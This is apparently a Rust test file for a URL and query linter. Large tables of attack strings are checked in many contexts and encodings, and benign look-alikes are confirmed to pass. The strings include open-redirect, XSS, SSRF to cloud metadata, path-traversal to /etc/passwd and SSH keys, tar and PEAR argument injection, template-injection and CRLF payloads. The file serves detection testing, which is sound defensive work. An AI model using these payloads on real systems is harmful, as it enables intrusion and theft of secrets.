//! Attacks by class, each in each place where a value may stand and in each spelling: as it is, encoded once, encoded twice, and as a
//! string of JSON. The tests do not use the library's encoder.

use triplet_inspect::{Context, Severity, lint};

/// Each octet that is not a letter or a digit as a triplet.
fn encoded(text: &str) -> String {
    let octet = |b: u8| match b.is_ascii_alphanumeric() {
        true => char::from(b).to_string(),
        false => format!("%{b:02X}"),
    };
    text.bytes().map(octet).collect()
}

/// Whether a rule is found above `info`.
fn is_raised(text: &str, context: Context, rule: &str) -> bool {
    let findings = lint(text.as_bytes(), context);
    findings.iter().any(|f| f.rule().name() == rule && f.severity() > Severity::Info)
}

/// The rule, the name of the pair, the value, and whether the value can stand in a query as it is.
#[rustfmt::skip]
const VALUES: &[(&str, &str, &str, bool)] = &[
    // A userinfo that looks like a host and goes on, and what is joined to a host.
    ("misleading-userinfo", "u", "https://teams.microsoft.com-update@setup.test/", true),
    ("misleading-userinfo", "u", "https://bank.org_login@setup.test/", true),
    ("at-sign-after-host", "u", "http://h.test:80#@localhost:6379/", false),
    ("scheme-relative-value", "next", "@evil.example", true),
    ("scheme-relative-value", "next", ".evil.example", true),
    ("scheme-relative-value", "next", "://evil.example/x", true),
    // Delimiters that compatibility hides.
    ("scheme-relative-value", "next", "／／evil.example", true),
    ("scheme-relative-value", "next", "/／evil.example", true),
    ("scheme-relative-value", "next", "。。//evil.example", true),
    ("scheme-relative-value", "next", "＼＼evil.example", true),
    ("script-scheme", "next", "ｊａｖａｓｃｒｉｐｔ：alert(1)", true),
    ("fetcher-scheme", "f", "ﬁle:///etc/passwd", true),
    // Schemes.
    ("script-scheme", "next", "\u{A0}javascript:alert(1)", true),
    ("script-scheme", "next", "\u{200B}\u{FEFF}javascript:alert(1)", true),
    ("script-scheme", "next", "\u{3000}vbscript:x(1)", true),
    ("script-scheme", "next", "javascript&#x3a;alert(1)", false),
    ("script-scheme", "next", "j&#97;vascript&colon;alert(1)", false),
    ("script-scheme", "text", "[a](javascript:alert(1))", true),
    ("fetcher-scheme", "src", "concat:http://h.test/a.m3u8|file:///etc/passwd", true),
    ("fetcher-scheme", "src", "subfile,,start,0,end,64,,:/etc/passwd", true),
    ("fetcher-scheme", "src", "hls+file:///etc/hostname", true),
    ("fetcher-scheme", "src", "msl:/tmp/a.msl", true),
    ("fetcher-scheme", "src", "vid:msl:/tmp/a.msl", true),
    ("fetcher-scheme", "src", "ephemeral:/var/www/a.txt", true),
    ("fetcher-scheme", "src", "label:@/etc/passwd", true),
    ("fetcher-scheme", "src", "text:/etc/passwd", true),
    ("fetcher-scheme", "src", "unix:/run/docker.sock|http://localhost/info", true),
    ("fetcher-scheme", "src", "cifs://h.test/a", true),
    ("fetcher-scheme", "ds", "jdbc:h2:mem:a;INIT=RUNSCRIPT FROM 'http://h.test/x.sql'", true),
    ("fetcher-scheme", "ds", "jdbc:mysql://h.test/x?allowLoadLocalInfile=true", true),
    ("fetcher-scheme", "ds", "service:jmx:rmi:///jndi/rmi://h.test:1099/x", true),
    // Another parameter.
    ("encoded-delimiter", "user", "a&x=y", false),
    ("encoded-delimiter", "return_url", "/x&return_url=//evil", false),
    // Options.
    ("leading-dash", "u", "-o /var/www/a.php", true),
    ("leading-dash", "u", "-K ./x", true),
    ("leading-dash", "f", "--checkpoint=1", true),
    ("leading-dash", "f", "--checkpoint=1&--checkpoint-action=exec", false),
    // A delimiter before an extension.
    ("path-parameter", "jsp", "/app/rest/users;.jsp", true),
    ("path-parameter", "f", "shell.asp;.jpg", true),
    ("encoded-delimiter", "path", "secret.txt?.jpg", false),
    ("encoded-delimiter", "path", "internal/admin#.png", false),
    // Hosts of clouds and clusters.
    ("private-host", "x", "http://metadata.tencentyun.com/latest/", true),
    ("private-host", "x", "http://metadata.packet.net/userdata", true),
    ("private-host", "x", "http://METADATA.platformequinix.com./", true),
    ("private-host", "x", "http://api.metadata.cloud.ibm.com/instance_identity/v1/token", true),
    ("private-host", "x", "http://rancher-metadata/latest/", true),
    ("private-host", "x", "http://consul.service.consul:8500/v1/kv/", true),
    ("private-host", "x", "https://kubernetes.default.svc/api", true),
    ("private-host", "x", "http://192.0.0.192/latest/", true),
    ("private-host", "x", "http://[fd00:ec2:0::254]/", true),
    // Sessions in a path, devices, files that no server gives out.
    ("path-parameter", "path", "/b/(S(X))in/a.dll", true),
    ("path-parameter", "path", "/(A(a))/admin/(S(X))/x", true),
    ("windows-device", "name", "COM1.jpg", true),
    ("windows-device", "name", "up/aux.php", true),
    ("dot-segment", "loc", "../WEB-INF/web.xml", true),
    ("dot-segment", "img", "../wp-config.php", true),
    ("dot-segment", "f", "..\\.git\\config", true),
    ("system-file", "f", "/var/lib/php/sessions/sess_1", true),
    // Blanks at the edges of a value and of its host.
    ("private-host", "url", "http://127.0.0.1 ", true),
    ("private-host", "url", "http://169.254.169.254 /latest/meta-data", true),
    ("private-host", "url", "http:// 127.0.0.1/", true),
    ("private-host", "url", "http://2130706433 /", true),
    ("numeric-host", "url", "http://2130706433+/", true),
    ("raw-space", "url", "http://localhost /x", true),
    ("private-host", "url", "127.0.0.1 ", true),
    ("private-host", "host", "localhost+", true),
    ("scheme-relative-value", "next", "//evil.test ", true),
    ("scheme-relative-value", "next", "//evil.test+", true),
    ("scheme-relative-value", "next", "/\\evil.test ", true),
    ("wrong-slashes", "next", "https:evil.test ", true),
    ("scheme-relative-value", "next", "@evil.test ", true),
    // A query after the host, under a name that people are sent on by.
    ("scheme-relative-value", "next", "//evil.test/p?a=1", false),
    ("scheme-relative-value", "return_to", "//evil.test?a", false),
    // Addresses without brackets, and references without a host.
    ("private-host", "url", "::1", true),
    ("private-host", "host", "0:0:0:0:0:0:0:1", true),
    ("embedded-ipv4", "url", "64:ff9b::192.168.2.1", true),
    ("embedded-ipv4", "target", "2002:C0A8:FFFF::", true),
    ("empty-host", "url", "https://::1", true),
    ("empty-host", "url", "https://a@", true),
    ("empty-host", "next", "https://\\evil.test@", true),
    // Files that no server gives out, and files of the system.
    ("hidden-file", "file", ".htaccess", true),
    ("hidden-file", "page", "wp-config.php", true),
    ("hidden-file", "template", "./web.config", true),
    ("hidden-file", "file", ".env~", true),
    ("system-file", "page", "etc/passwd", true),
    ("system-file", "page", "windows/win.ini", true),
    ("system-file", "file", "..//proc/self/environ", true),
    ("system-file", "file", "C:/proc/self/environ", true),
    ("system-file", "file", "~//root/.ssh/id_rsa ", true),
    ("system-file", "file", "/proc/cpuinfo", true),
    ("system-file", "file", "/proc/sys/kernel/version", true),
    ("system-file", "file", "/proc/7/environ", true),
    // Dots of IDNA in hosts without a scheme.
    ("idna-dot", "redir", "evil。test", true),
    ("private-host", "url", "127。0。0。1", true),
    ("confusable-delimiter", "next", "good.test／evil.test", true),
    // Templates.
    ("expression", "n", "{{_self.env.registerUndefinedFilterCallback('exec')}}", true),
    ("expression", "n", "{{request.application}}", true),
    ("expression", "n", "${'7'*7}", true),
    ("expression", "n", "${.version}", true),
    ("expression", "n", "<#assign ex='x'?new()>", false),
    ("expression", "n", "#set($x=1)", false),
    // Hosts of clouds under any name, and this machine under names of addresses.
    ("private-host", "x", "169.254.169.254", true),
    ("private-host", "x", "metadata.google.internal", true),
    ("private-host", "src", "127.0.0.1:8080/admin", true),
    ("private-host", "href", "localhost", true),
    ("private-host", "addr", "[::1]", true),
    // Scripts that do not begin the value.
    ("script-scheme", "css", "background:url(javascript:alert(1))", true),
    ("script-scheme", "css", "background:url('javascript:alert(1)')", true),
    ("script-scheme", "x", "opera:javascript:alert(1)", true),
    ("script-scheme", "x", "Location: javascript:alert(1)", true),
    ("script-scheme", "x", "\"javascript:alert(1)", true),
    ("script-scheme", "x", "java\\script:alert(1)", true),
    ("script-scheme", "x", "java/**/script:alert(1)", true),
    ("script-scheme", "x", "\\j\\av\\a\\s\\cr\\i\\pt:alert(1)", true),
    // Two hosts that are joined.
    ("misleading-userinfo", "next", "good.test:80@evil.test", true),
    ("misleading-userinfo", "next", "good.test#@evil.test", false),
    ("misleading-userinfo", "next", "good.test@@evil.test", true),
    // Marks in hosts.
    ("invalid-label", "u", "http://exam'ple.test/", true),
    ("invalid-label", "u", "http://a,test/", true),
    ("private-host", "url", "http://localhost;/", true),
    ("private-host", "url", "http://!127.0.0.1/", true),
    ("private-host", "url", "http://localhost=/", true),
    ("invalid-port", "u", "http://a.test:0/", true),
    // What programs remove before two slashes, and before a reference.
    ("scheme-relative-value", "next", "\u{A0}//evil.test", true),
    ("scheme-relative-value", "next", "\u{3000}//evil.test", true),
    ("scheme-relative-value", "next", "/.//evil.test", true),
    ("scheme-relative-value", "next", "/./\\evil.test", true),
    ("private-host", "u", "feed:http://127.0.0.1/", true),
    ("private-host", "u", "(http://127.0.0.1/)", true),
    ("numeric-host", "u", "http://١٢٣.١.١.١/", true),
    ("embedded-ipv4", "u", "http://1ynrnhl.xip.io/", true),
    ("fetcher-scheme", "u", "data:application/octet-stream;base64,PHNjcmlwdD4x", true),
    // Lists of references, and what is between a scheme and a host.
    ("private-host", "urls", "http://good.test,http://127.0.0.1/", true),
    ("private-host", "urls", "https://good.test/a|https://[::1]/", true),
    ("wrong-slashes", "url", "http::80//169.254.169.254/latest/", true),
    ("private-host", "url", "http::80//169.254.169.254/latest/", true),
    ("wrong-slashes", "url", "https:;//evil.test/", true),
    ("wrong-slashes", "url", "http:x>.7\\2@0xd8.072.54990", true),
    ("misleading-userinfo", "url", "http://@evil.test/", true),
    ("misleading-userinfo", "url", "http://:@evil.test/", true),
    // The name of a host after the host.
    ("at-sign-after-host", "next", "https://evil.test#good.test", false),
    ("at-sign-after-host", "next", "https://evil.test?good.test/", true),
    ("at-sign-after-host", "next", "https://evil.test?http://good.test", true),
    // Data without data, and schemes after escapes of blanks.
    ("script-scheme", "next", "data:evil.test/callback", true),
    ("script-scheme", "u", "\\tjavascript:alert(1)", true),
    ("script-scheme", "u", "\\njavascript:alert(1)", true),
    // Paths that servers and filters read in different ways.
    ("encoded-separator", "path", "/api/%2F.admin", false),
    ("windows-trailing", "path", "/api../secret", true),
    ("dot-segment", "path", "/sdk/../../../", true),
    ("dot-segment", "next", "/evil.test//..", true),
    // Files.
    ("system-file", "file", "/usr/local/apache2/htdocs/index.php", true),
    ("system-file", "file", "/sys/class/net/eth0/address", true),
    ("windows-drive", "file", "C:\\xampp\\apache\\conf\\httpd.conf", true),
    ("hidden-file", "file", "/home/user/.bashrc", true),
    ("hidden-file", "path", "/.htpasswd_test", true),
    ("proto-key", "q", "constructor[prototype][x]=true", true),
    ("callback-code", "cb", "CWSMIKI0hCD0Up0IZUnnnnnnnnnnnnnnnnnnnUU5nnnnnn3Snn7iiudIbEAt333swW0s", true),
];

#[test]
fn values_in_each_place_and_spelling() {
    let mut missing = Vec::new();
    for &(rule, name, value, is_plain) in VALUES {
        let (once, twice) = (encoded(value), encoded(&encoded(value)));
        let spellings = [("plain", value), ("once", once.as_str()), ("twice", twice.as_str())];
        for (spelling, text) in spellings.into_iter().skip(usize::from(!is_plain)) {
            for (context, text) in [
                (Context::Url, format!("https://a.test/go?b=1&{name}={text}")),
                (Context::Query, format!("{name}={text}")),
                (Context::Form, format!("b=1&{name}={text}&c=2")),
                (Context::Fragment, format!("{name}={text}")),
                (Context::Url, format!("https://a.test/#{name}={text}")),
                (
                    Context::Url,
                    format!(
                        "https://a.test/?to=https%3A%2F%2Fb.test%2F%3F{name}%3D{}",
                        encoded(text)
                    ),
                ),
            ] {
                if !is_raised(&text, context, rule) {
                    missing.push(format!("{rule}, {spelling}, {}: {text}", context.name()));
                }
            }
        }
    }
    assert!(missing.is_empty(), "{}:\n{}", missing.len(), missing.join("\n"));
}

/// The strings of JSON are values, whose names are those of the members. Slashes may have a backslash before them.
#[test]
fn values_in_json() {
    let mut missing = Vec::new();
    for &(rule, name, value, _) in VALUES {
        let string = value.replace('\\', "\\\\").replace('"', "\\\"");
        for string in [string.clone(), string.replace('/', "\\/")] {
            let json = format!("{{\"a\": 1, \"{name}\": [\"{string}\", 2], \"z\": \"http:\"}}");
            for text in [encoded(&json), encoded(&encoded(&json))] {
                let text = format!("https://a.test/?q={text}");
                if !is_raised(&text, Context::Url, rule) {
                    missing.push(format!("{rule}: {json}: {text}"));
                }
            }
        }
    }
    assert!(missing.is_empty(), "{}:\n{}", missing.len(), missing.join("\n"));
    // The span is that of the text as it was given, with its escapes.
    let text = br#"{"a":"http:\/\/127.0.0.1\/x"}"#;
    let findings = lint(text, Context::Any);
    let found = findings.iter().find(|f| f.rule().name() == "private-host").expect("an address");
    assert_eq!(&text[found.span()], b"127.0.0.1");
}

/// The rule, the path, and the same path encoded.
#[rustfmt::skip]
const PATHS: &[(&str, &str)] = &[
    ("path-parameter", "/b/(S(X))in/App.dll"),
    ("path-parameter", "/(S(x))/(A(y))/bi(S(z))n/a.dll"),
    ("path-parameter", "/profile.json;a.png"),
    ("hidden-file", "/raw/.GIT/config"),
    ("hidden-file", "/web.config"),
    ("hidden-file", "/.env~"),
    ("path-parameter", "/api/admin..;"),
    ("path-parameter", "/admin..;a=b"),
    ("path-parameter", "/admin;;"),
    ("encoded-delimiter", "/admin..%3B/"),
    ("encoded-delimiter", "/admin..%3b"),
    ("encoded-delimiter", "/api/%23%3Fadmin"),
    ("encoded-delimiter", "/api/%2f%23admin"),
    ("encoded-delimiter", "/api/%2F%20%23admin"),
    ("dot-segment", "/@fs/x/x/../../etc/passwd"),
    ("path-parameter", "/admin/users.json;a=.css"),
    ("windows-short-name", "/*~1*/a.aspx"),
    ("windows-short-name", "/a~1*/x.aspx"),
    ("encoded-delimiter", "/admin/%3Bpage"),
    ("windows-trailing", "/web.config.%20."),
    ("windows-trailing", "/admin.aspx%20"),
    ("hidden-file", "/backup/id_ed25519"),
    ("hidden-file", "/server.key"),
    ("hidden-file", "/live/privkey.pem"),
    ("hidden-file", "/terraform.tfstate.backup"),
    ("hidden-file", "/.azure/accessTokens.json"),
    ("hidden-file", "/.config/gcloud/credentials.db"),
    ("hidden-file", "/CVS/Entries"),
    ("hidden-file", "/_darcs/prefs"),
    ("hidden-file", "/.htpasswd.old"),
    ("hidden-file", "/.env%20"),
    ("hidden-file", "/WEB-INF./web.xml"),
    ("hidden-file", "/.htaccessBAK"),
    ("hidden-file", "/.ht_wsr.txt"),
    ("hidden-file", "/old.htpasswd"),
    ("hidden-file", "/htpasswd.bak"),
    ("hidden-file", "/master.passwd"),
    ("hidden-file", "/.bash_aliases"),
    ("hidden-file", "/.gitconfig"),
    ("hidden-file", "/.vscode/sftp.json"),
    ("encoded-separator", "/api/%2F.admin"),
    ("encoded-separator", "/api/%2f%2eadmin"),
    ("dot-segment", "/api/.//admin"),
    ("dot-segment", "/sdk/../../../"),
    ("url-in-value", "/hTtP:/evil.test/"),
    ("fetcher-scheme", "/proxy/unix:/run/docker.sock%7Chttp://localhost/info"),
];

#[test]
fn paths() {
    for (rule, path) in PATHS {
        let inner = encoded(&format!("https://a.test{path}"));
        for (context, text) in [
            (Context::Path, (*path).to_owned()),
            (Context::Url, format!("https://a.test{path}?q=1")),
            (Context::Url, format!("https://b.test/go?to={inner}")),
            (Context::Url, format!("https://b.test/go?to={}", encoded(&inner))),
        ] {
            // A gateway takes the segments of a path for references, and a program behind it does not.
            let within = text.starts_with("https://b.test");
            if within && matches!(*rule, "fetcher-scheme" | "url-in-value") {
                continue;
            }
            assert!(is_raised(&text, context, rule), "{rule} as {}: {text}", context.name());
        }
    }
}

/// Queries and names.
#[test]
fn queries_and_names() {
    for (rule, query) in [
        ("leading-dash", "-s"),
        ("leading-dash", "%2Ds"),
        ("leading-dash", "-d+allow_url_include%3D1"),
        ("leading-dash", "+config-create+/&file=/usr/local/lib/php/pearcmd.php&/x+/tmp/s.php"),
        ("leading-dash", "f=pearcmd&+install+-R+/tmp+http%3A%2F%2Fh.test%2Fa.tgz"),
        ("leading-dash", "--env=production"),
        ("scheme-relative-value", "@evil.example/mapi/nspi/?&Email=a"),
        ("header-as-name", "X-HTTP-Method-Override=PUT"),
        ("header-as-name", "X-HTTP-Method=DELETE"),
        ("header-as-name", "x-middleware-subrequest=middleware:middleware"),
        ("header-as-name", "X-Original-URL=/admin"),
        ("header-as-name", "a=1&_method=DELETE"),
        ("object-graph-name", "__class__.__init__.__globals__.SECRET_KEY=x"),
        ("object-graph-name", "a%5B__class__%5D%5B__init__%5D=x"),
        ("proto-key", "__pro__proto__to__[x]=1"),
        ("nested-query", "path=secret.txt?.jpg"),
    ] {
        for (context, text) in [
            (Context::Query, query.to_owned()),
            (Context::Url, format!("https://a.test/index.php?{query}")),
            (
                Context::Url,
                format!("https://b.test/?to={}", encoded(&format!("https://a.test/i?{query}"))),
            ),
        ] {
            assert!(is_raised(&text, context, rule), "{rule} as {}: {text}", context.name());
        }
    }
    for (rule, text) in [
        ("html-ampersand", "https://a.test/go?next=javascript&#x3a;alert(1)"),
        ("at-sign-after-host", "https://a.test/?url=http://h.test:80#@localhost:6379/"),
        ("misleading-userinfo", "https://teams.microsoft.com-update@setup.test/"),
        ("duplicate-key", "https://a.test/login?next=/home&next=https://evil.example"),
        ("crlf", "https://a.test/?q=x%0D%0AINFO%20User%20admin%20is%20in"),
        ("private-host", "http://metadata.tencentyun.com/latest/meta-data/"),
        ("private-host", "http://rancher-metadata/latest/"),
        ("invalid-label", "http://localhost;/"),
        ("invalid-label", "http://exam'ple.test/"),
        ("crlf", "https://a.test/?q=%0A%20x-y:z"),
        ("crlf", "https://a.test/?q=a%0D%0A%20token:x"),
        ("crlf", "https://a.test/?q=%20%0Atoken:x"),
        ("malformed-escape", "https://a.test/%zz"),
        ("malformed-escape", "https://a.test/%sa"),
        ("control-char", "https://a.test/%04x"),
        ("network-path", "/%EF%BC%8Fadmin"),
        ("network-path", "/%e2%81%84x"),
        ("scheme-relative-value", "https://a.test/x/%2F%2Fevil.test%2Fa"),
        ("scheme-relative-value", "https://a.test/x/%2F%2Fxa.test%2Fa"),
        ("dot-segment", "https://a.test/?f=..%252Fsecret"),
        ("encoded-delimiter", "https://a.test/?next=http://evil.test%23good.test"),
        ("encoded-delimiter", "https://a.test/?next=http://evil.test%3Fgood.test"),
        ("encoded-delimiter", "https://a.test/?next=http://evil.test%2F.."),
        ("over-encoded", "https://a.test/?next=http://good.test%2eevil.test/"),
        ("at-sign-after-host", "https://a.test/?next=https://evil.test#good.test"),
        ("misleading-userinfo", "https://a.test/?next=http://evil.test%2f@good.test/"),
        ("misleading-userinfo", "http://@evil.test/"),
        ("crlf", "https://a.test/?q=x%0D%0A[CRITICAL]%20the%20disk%20is%20full"),
    ] {
        assert!(is_raised(text, Context::Url, rule), "{rule}: {text}");
    }
}

/// Ordinary texts that look like these attacks.
#[test]
fn ordinary_texts_that_look_like_them() {
    for text in [
        "https://john.doe-smith@git.example.com/a.git",
        "https://a.test/?user=@anna&next=.",
        "https://a.test/?email=anna@b.test#@anna",
        "https://a.test/x#@anna",
        "https://a.test/?q=%EF%BC%8F%EF%BC%8F",
        "https://a.test/?q=%E3%80%82%E3%80%82%E3%80%82",
        "https://a.test/?q=cache:https://b.test/",
        "https://a.test/?q=label:+a&text=text:+b",
        "https://a.test/?ds=jdbc:postgresql://db.example.com:5432/app",
        "https://a.test/?q=AT%26T&company=a%26b",
        "https://a.test/?q=a%26b%3Dc",
        "https://a.test/?next=%2Fx%3Fa%3D1%26next%3D2",
        "https://a.test/?q=-foo+bar&r=-1&s=--",
        "https://a.test/?options=-c%20search_path%3Dapp",
        "https://a.test/?-1",
        "https://a.test/?+a+b",
        "https://a.test/?song=Who%20Are%20You%3F.mp3&book=C%23.pdf",
        "https://a.test/Who%20Are%20You%3F.mp3",
        "https://a.test/?q=metadata&host=metadata.example.com",
        "https://a.test/(S(lit3py55t21z5v55vlm25s55))/orders.aspx",
        "https://a.test/wiki/A_(S)_(film)",
        "https://a.test/?name=con.test.jpg&file=com1&s=console.log",
        "https://a.test/?f=../docs/web.xml&g=../index.html",
        "https://a.test/?highlight=__import__#open",
        "https://a.test/?_method=PATCH&authenticity_token=LwwIKSthvlVwYcPiQspjpSk4%3D",
        "https://a.test/?_method=GET&__typename=a&__v=1",
        "https://github.com/a/b/blob/main/.htaccess",
        "https://unpkg.com/a@^1.2.3/b.js",
        "https://a.test/?next=/a&next=/b&r=https%3A%2F%2Fb.test%2F&r=https%3A%2F%2Fb.test%2F",
        "https://a.test/a/../etc/hosting",
        "https://a.onelink.me/x?af_dp=app%3A%2F%2Fhome",
        "mailto:%22A%20B%22%20%3Ca@b.test%3E?subject=x",
        "https://firebasestorage.googleapis.com/v0/b/a/o/x%2FNr.%252012%2520%2528M%25C3%25A4rz%2529.pdf?alt=media",
        "https://console.cloud.google.com/logs/query;query=a%3D%22b%22%0Ac%3DERROR;timeRange=PT1H?project=p",
        "https://es.example.com/%3Clogs-%7Bnow%2Fd%7D%3E/_search",
        "https://a.test/?j=%7B%22a%22%3A%22https%3A%2F%2Fb.test%2F%22%2C%22b%22%3A%5B1%5D%7D",
        "https://a.test/?q=%7B%22a%22",
        "https://a.test/keys/server.keys/id_editor/.pemx",
        "https://a.test/?q=//+comment&r=//+TODO.",
        "https://a.test/?foo=/%20&next=/+&to=//",
        "https://a.test/?src=//cdn.b.test/x.js?v=1&url=//img.b.test/a.png?v=1",
        "https://a.test/?t=12:30:00&name=std::map&url=::&host=2001:db8::1",
        "https://a.test/?url=https&u=https://&next=http://+",
        "https://a.test/?file=config.php&q=.env&file2=.htaccess.example&page=.&name=.well-known",
        "https://a.test/?next=/proc/login&to=/proc/12&f=./etc/a.html",
        "https://a.test/a..b;v=1/x..y%3Bz",
        "https://a.test/?q=%E6%9D%B1%E4%BA%AC%E3%80%82%E5%A4%A7%E9%98%AA&to=%E6%9D%B1%E4%BA%AC%E3%80%82a",
        "https://a.test/?gdpr=$%7BGDPR%7D&n=%7B%7Busername%7D%7D&m=%7B%7B%20self%20%7D%7D",
        "https://a.test/?ip=10.0.0.3&ip2=127.0.0.1&q=169.254.169.254&v=127.1&type=metadata&src=10.0.0.3",
        "https://a.test/?ref=/docs/javascript:intro&q=%22javascript:+the+good+parts%22&lang=a:javascript",
        "https://a.test/?text=a%0A%20b:%20c%20d&q=see%20it%0A%20note:x",
        "https://a.test/?next=anna@a.test&to=a.test:x@b.test&u=anna%2Bx@a.test",
        "http://*.a.test/",
        "https://a.test,",
        "http://a.test)",
        "https://$host$request_uri",
        "https://a.test/wiki/What%3F%3F",
        "https://a.test/tag/%23x/c%23",
        "http://a.test:080/",
        "https://a.test/?q=%C2%A0//&next=/./a//b",
        "/%EF%BD%81%EF%BD%82",
        "https://a.test/?q=%22http://127.0.0.1%22&tags=a,b",
        "https://a.test/pin/%s/",
        "https://a.test/pep-%04d/",
        "https://a.test:%d/%(name)s",
        "https://i.cdn.a.test/x/w_60/%2F%2Fcdn.a.test%2Fa.jpg",
        "https://a.test/?f=..%252Fa%252Findex.html",
        "https://a.test/?next=http%3A%2F%2Fb.test%2Fa%3Fb%23c&u=https://b.test%2Fa",
        "https://a.test/?next=https://b.test?index.html&u=https://b.test?a.html",
        "https://a.test?b.test",
        "https://a.test/?next=http://b.test/a%2Eb#c.test",
        "https://a.test/http%3A//b.test/",
        "https://a.test/?urls=http://b.test/,http://c.test/|http://d.test/",
        "https://a.test/?next=/sale/100%25&path=/a%20b/~anna/&to=/wiki/What%253F",
        "https://a.test/?img=data:image/png;base64,iVBO.w&u=data:,a",
        "https://a.test/a/.htm/.html/.env.sample/htpasswords",
        "https://gitlab.test/api/v4/projects/1/repository/files/lib%2F.gitignore/raw",
        "https://github.com/a/b/tree/main/.vscode",
        "https://a.test/../",
        "https://a.test/?dir=C:%5CUsers%5Canna&path=/home/anna/a.txt&f=/systems/usr.txt",
        "https://a.test/?u=data:image/svg%2Bxml;base64,PHN2ZyB4&v=data:image/png;base64,iVBO",
    ] {
        let findings = lint(text.as_bytes(), Context::Url);
        let raised: Vec<_> = findings
            .iter()
            .filter(|f| f.severity() > Severity::Info)
            .map(|f| f.rule().name())
            .collect();
        assert!(raised.is_empty(), "{text}: {raised:?}");
    }
}
